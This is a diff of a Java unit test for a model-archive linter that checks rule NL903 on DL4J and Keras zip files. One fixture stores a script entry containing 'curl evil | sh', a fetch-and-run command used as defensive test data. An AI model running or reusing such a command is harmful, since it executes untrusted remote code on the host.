@@ -2,6 +2,7 @@ package dev.netlint.read;
 
 import dev.netlint.Fixtures;
 import dev.netlint.fixtures.ZipBytes;
+import dev.netlint.model.Finding;
 import dev.netlint.model.LayerKind;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -144,9 +145,9 @@ class ReadLimitsTest {
         zip.add("objects/labels", "cat,dog");
         zip.add("run.sh", "curl evil | sh");
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).singleElement().satisfies(note -> {
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement().satisfies(note -> {
             assertThat(note.element()).isEqualTo("run.sh");
-            assertThat(note.wholeFile()).isTrue();
+            assertThat(note.origin().entry()).as("about the archive, not its entry").isEmpty();
             assertThat(note.problem()).isEqualTo("entry 'run.sh' is not part of the DL4J ModelSerializer format");
         });
         assertThat(models.networks().get(0).facts().inputNormalizerSaved()).contains(true);
@@ -162,7 +163,7 @@ class ReadLimitsTest {
         zip.add("model.weights.npz", "not a pickle, but where one would be".getBytes(StandardCharsets.UTF_8));
         zip.add("assets/vocabulary.txt", "a\nb\n");
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).singleElement()
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement()
                 .satisfies(note -> assertThat(note.problem())
                         .isEqualTo("entry 'model.weights.npz' appears twice in the Keras archive"));
         assertThat(models.entry()).isEqualTo("config.json");
@@ -176,7 +177,7 @@ class ReadLimitsTest {
         zip.add("model.weights.h5", new byte[32]);
         zip.add("model.weights.npz", new byte[32]);
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).extracting(ReadNote::problem)
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).extracting(Finding::problem)
                 .containsExactly("the Keras archive holds both model.weights.h5 and model.weights.npz");
     }
 
@@ -184,7 +185,7 @@ class ReadLimitsTest {
     void honestArchivesHaveNoArchiveNotes() throws Exception {
         for (String name : List.of("bad-seedA-two-sigmoid-mcxent.zip", "ok-seedA-with-normalizer.zip")) {
             ReadOutcome.Models models = (ReadOutcome.Models) reader.read(Fixtures.dl4j(name));
-            assertThat(models.notes()).extracting(ReadNote::ruleId).doesNotContain("NL903");
+            assertThat(FileFindings.of(models)).extracting(Finding::ruleId).doesNotContain("NL903");
         }
     }
 
